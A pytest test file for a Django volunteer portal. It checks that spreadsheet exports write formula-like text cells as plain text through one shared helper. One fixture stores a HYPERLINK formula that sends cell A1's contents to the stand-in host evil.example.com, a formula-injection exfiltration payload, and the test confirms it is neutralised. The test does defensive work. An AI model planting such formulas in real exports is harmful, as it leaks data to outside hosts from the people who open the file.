"""Exports never carry a live formula: every text cell that starts like one is written as text,
by the one helper (portal.spreadsheet) every module writing a workbook uses."""

import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.spreadsheet import FORMULA_STARTS, safe_row, safe_text

ROOT = Path(__file__).resolve().parents[2]
APPS = sorted(p.parent.name for p in ROOT.glob("*/apps.py"))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_starts_like_a_formula_is_written_as_text(start):
    assert safe_text(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_other_values_pass_as_they_are():
    assert safe_row(["王小红", 2.5, None, "", "GD-440106-2026-0001", "a=b"]) == [
        "王小红",
        2.5,
        None,
        "",
        "GD-440106-2026-0001",
        "a=b",
    ]


def test_every_module_that_writes_a_workbook_uses_the_one_helper():
    writers = [
        path
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8") and "migrations" not in path.parts
    ]
    assert writers, "no export found: the scan is broken"
    for path in writers:
        text = path.read_text(encoding="utf-8")
        assert "from portal.spreadsheet import" in text, path
        assert "FORMULA_STARTS = " not in text, f"{path} keeps a rule of its own"


def formulas_in(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def test_a_volunteer_s_hours_description_is_no_formula_in_the_coordinator_s_export(
    client_for, regions, reference_data
):
    from groups.models import Membership
    from groups.services import group_create, member_add
    from tests import factories
    from tests.groups.conftest import group_data
    from tests.volunteers import factories as vf

    coordinator = factories.coordinator(regions["440106"])
    group = group_create(data=group_data(regions), created_by=coordinator)
    volunteer = factories.VolunteerFactory(display_name="+86 王小红")
    profile = vf.profile(volunteer, real_name="@张晓明", regions=("440106",))
    member_add(group=group, user=volunteer, role=Membership.Role.VOLUNTEER, added_by=coordinator)
    record = vf.record(profile, region=regions["440106005"], hours="2", status="confirmed")
    record.description = '=HYPERLINK("http://evil.example.com/?"&A1,"查看详情")'
    record.save(update_fields=["description"])

    today = timezone.localdate()
    response = client_for(coordinator).get(
        reverse("volunteers:hours_export"),
        {"region": regions["440106"].pk, "start": today - timedelta(days=30), "end": today},
    )
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    values = [c for row in load_workbook(io.BytesIO(response.content)).active.values for c in row]
    assert '\'=HYPERLINK("http://evil.example.com/?"&A1,"查看详情")' in values
    assert "'@张晓明" in values and "'+86 王小红" in values
